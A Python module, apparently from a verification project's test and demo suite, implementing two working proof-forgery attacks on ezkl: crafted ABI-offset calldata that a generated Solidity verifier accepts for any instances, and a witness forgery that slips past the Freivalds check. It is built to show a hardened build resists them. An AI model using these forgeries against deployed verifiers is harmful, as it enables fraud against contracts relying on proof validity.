"""Two attacks that make ezkl's defaults accept false proofs, mounted for real.

The demo and the tests run them against what we build, where they must fail, and against what ezkl
builds by default, where they succeed: without the second half the first would prove nothing.

`abi_offset_calldata` forges against the generated Solidity: the transcript, from which the verifier
draws its challenges, is read at the caller's `proof.offset`, but evaluations and commitments are
read at fixed calldata positions. So the challenges are known before the commitments are chosen.

`freivalds_forgery` forges against the circuit of a matrix product: the columns that Freivalds'
check looks at are never tied to those that later layers and the instances use.
"""

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from zkagent.circuits.bn254 import curve as bn254
from zkagent.circuits.bn254.field import R, from_hex
from zkagent.circuits.errors import EngineError
from zkagent.circuits.halo2 import ezkl_engine
from zkagent.circuits.halo2.settings import LEAST_LOGROWS, RunArguments, canonical, to_bytes

if TYPE_CHECKING:
    from onnx import NodeProto

#: Deploys the contract `Halo2Verifier` of a Solidity source and returns what a call with these
#: calldata returns.
Evaluate = Callable[[str, bytes], bytes]

STOCK_SELECTOR = bytes.fromhex("1e8e1e13")  # verifyProof(bytes,uint256[])
PROOF_POSITION = 0x64  # where the generated code believes the proof's bytes to begin
WORD = 32

LENGTH = re.compile(r"eq\((0x[0-9a-f]+), proof\.length\)")
SEGMENT = re.compile(r"proof_cptr_end := add\(proof_cptr, (0x[0-9a-f]+)\)")
# lhs -= z * W, where z lies in memory and the commitment W at a fixed calldata position.
LAST_COMMITMENT = re.compile(
    r"mstore\(0x80, calldataload\((0x[0-9a-f]+)\)\)\s+"
    r"mstore\(0xa0, calldataload\(0x[0-9a-f]+\)\)\s+"
    r"success := ec_mul_tmp\(success, sub\(R, mload\((0x[0-9a-f]+)\)\)\)"
)
PAIRING, RESULT = "            // Perform pairing\n", "            // Return 1 as result"


def abi_offset_calldata(generated: str, instances: Sequence[int], evaluate: Evaluate) -> bytes:
    """Arguments (without a selector) that an unpatched verifier accepts for any `instances`.

    generated: ezkl's Solidity, as generated. The commitments at the fixed positions are all zero
    but for W, and W is chosen so that the left side of the pairing check cancels.
    """
    match = LAST_COMMITMENT.search(generated)
    length = LENGTH.search(generated)
    if not match or not length:
        raise ValueError("the generated verifier does not look as this attack expects")
    position, z_pointer = int(match[1], 16), match[2]
    body = bytearray(int(length[1], 16))
    leaking = _leaking_verifier(generated, z_pointer)
    arguments = _arguments(generated, bytes(body), instances)
    x, y, z = _words(evaluate(leaking, STOCK_SELECTOR + arguments))
    commitment = bn254.multiply((x, y), pow(z, -1, R))
    start = position - PROOF_POSITION
    body[start : start + 2 * WORD] = b"".join(c.to_bytes(WORD, "big") for c in commitment)
    return _arguments(generated, bytes(body), instances)


def _leaking_verifier(generated: str, z_pointer: str) -> str:
    """The verifier, stopped before the pairing to tell the left side and z."""
    head, tail = generated.split(PAIRING, 1)[0], generated.split(RESULT, 1)[1]
    leak = f"""            if iszero(success) {{ revert(0x00, 0x00) }}
            mstore(0x00, mload(PAIRING_LHS_X_MPTR))
            mstore(0x20, mload(PAIRING_LHS_Y_MPTR))
            mstore(0x40, mload({z_pointer}))
            return(0x00, 0x60)
"""
    return head + leak + RESULT + tail


def _arguments(generated: str, body: bytes, instances: Sequence[int]) -> bytes:
    """An ABI head that points past `body`, which lies where a canonical proof would."""
    transcript = _transcript(generated)
    padded = body + bytes(-len(body) % WORD)
    proof_offset = 3 * WORD + len(padded)
    instances_offset = proof_offset + WORD + len(transcript)
    words = [proof_offset, instances_offset, len(body)]
    return (
        _encode(words)
        + padded
        + _encode([len(transcript)])
        + transcript
        + _encode([len(instances), *instances])
    )


def _transcript(generated: str) -> bytes:
    """Bytes that pass as points and evaluations: generators, zeros, and two last generators."""
    *points, evaluations = (int(size, 16) for size in SEGMENT.findall(generated))
    generator = _encode(bn254.GENERATOR)
    count = sum(points) // len(generator)
    return generator * count + bytes(evaluations) + 2 * generator


def _encode(words: Sequence[int]) -> bytes:
    return b"".join(word.to_bytes(WORD, "big") for word in words)


def _words(data: bytes) -> tuple[int, int, int]:
    x, y, z = (int.from_bytes(data[at : at + WORD], "big") for at in (0, WORD, 2 * WORD))
    return x, y, z


@dataclass(frozen=True)
class Forgery:
    """What came of an attack on a circuit: true and claimed outputs for the same inputs."""

    accepted: bool
    honest: tuple[int, ...]
    claimed: tuple[int, ...]


WEIGHTS = [[1, 5, 9], [2, 6, 10], [3, 7, 11], [4, 8, 12]]
INPUTS = (1, 0, 0, 0, 0, 1, 0, 0)


def freivalds_forgery(folder: Path, *, disable_freivalds: bool) -> Forgery:
    """Prove permuted outputs of a 2x4 by 4x3 product under the honest circuit's key.

    folder: an empty one to work in. The witness comes from a second circuit, which differs in a
    transposition that costs no constraint.
    """
    product = _node("MatMul", ["x", "w"], "m")
    honest = [product, _node("Identity", ["m"], "y")]
    turned = [
        product,
        _node("Reshape", ["m", "tall"], "t"),
        _node("Transpose", ["t"], "u", perm=[1, 0]),
        _node("Reshape", ["u", "wide"], "y"),
    ]
    arguments = RunArguments(disable_freivalds=disable_freivalds)
    return foreign_witness_forgery(folder, _network(honest), _network(turned), INPUTS, arguments)


def foreign_witness_forgery(
    folder: Path, honest: bytes, other: bytes, inputs: Sequence[int], arguments: RunArguments
) -> Forgery:
    """Offer the witness of the ONNX network `other` under the keys of the network `honest`.

    This is what a modified prover does: keep the honest key and every gate, but wire the cells
    differently. Whether it passes depends on the copy constraints alone.
    """
    ours, theirs = _compiled(folder / "honest", honest, arguments), folder / "other"
    _compiled(theirs, other, arguments)
    srs = folder / "srs"
    ezkl_engine.make_srs(srs, ATTACK_LOGROWS)
    vk, pk = ours / "vk", ours / "pk"
    ezkl_engine.make_keys(ours / "compiled", srs, vk, pk)
    truth = ezkl_engine.evaluate(ours / "compiled", [inputs], ours / "witness.json")
    claimed = ezkl_engine.evaluate(theirs / "compiled", [inputs], theirs / "witness.json")
    try:
        proof, instances = ezkl_engine.prove_witness(
            theirs / "compiled", theirs / "witness.json", pk, srs
        )
        proven = tuple(from_hex(value) for value in instances)
        valid = ezkl_engine.verify_instances(proof, instances, ours / "settings.json", vk, srs)
    except EngineError:
        return Forgery(False, truth, claimed)
    return Forgery(valid and proven == (*inputs, *claimed), truth, claimed)


ATTACK_LOGROWS = LEAST_LOGROWS + 2


def _compiled(folder: Path, onnx: bytes, arguments: RunArguments) -> Path:
    folder.mkdir()
    network, settings = folder / "network.onnx", folder / "settings.json"
    network.write_bytes(onnx)
    made = ezkl_engine.make_settings(network, arguments, ATTACK_LOGROWS)
    settings.write_bytes(to_bytes(canonical(made)))
    ezkl_engine.compile_network(network, settings, folder / "compiled")
    return folder


def _node(operator: str, inputs: list[str], output: str, **attributes: Any) -> "NodeProto":
    from onnx import helper

    return helper.make_node(operator, inputs, [output], **attributes)


def _network(nodes: list["NodeProto"]) -> bytes:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    used = {name for node in nodes for name in node.input}
    constants = {"w": WEIGHTS, "tall": [3, 2], "wide": [2, 3]}
    graph = helper.make_graph(
        nodes,
        "product",
        [helper.make_tensor_value_info("x", TensorProto.INT64, [2, 4])],
        [helper.make_tensor_value_info("y", TensorProto.INT64, [2, 3])],
        [
            numpy_helper.from_array(np.array(values, dtype=np.int64), name)
            for name, values in constants.items()
            if name in used
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    return bytes(model.SerializeToString())


__all__ = ["Forgery", "abi_offset_calldata", "foreign_witness_forgery", "freivalds_forgery"]
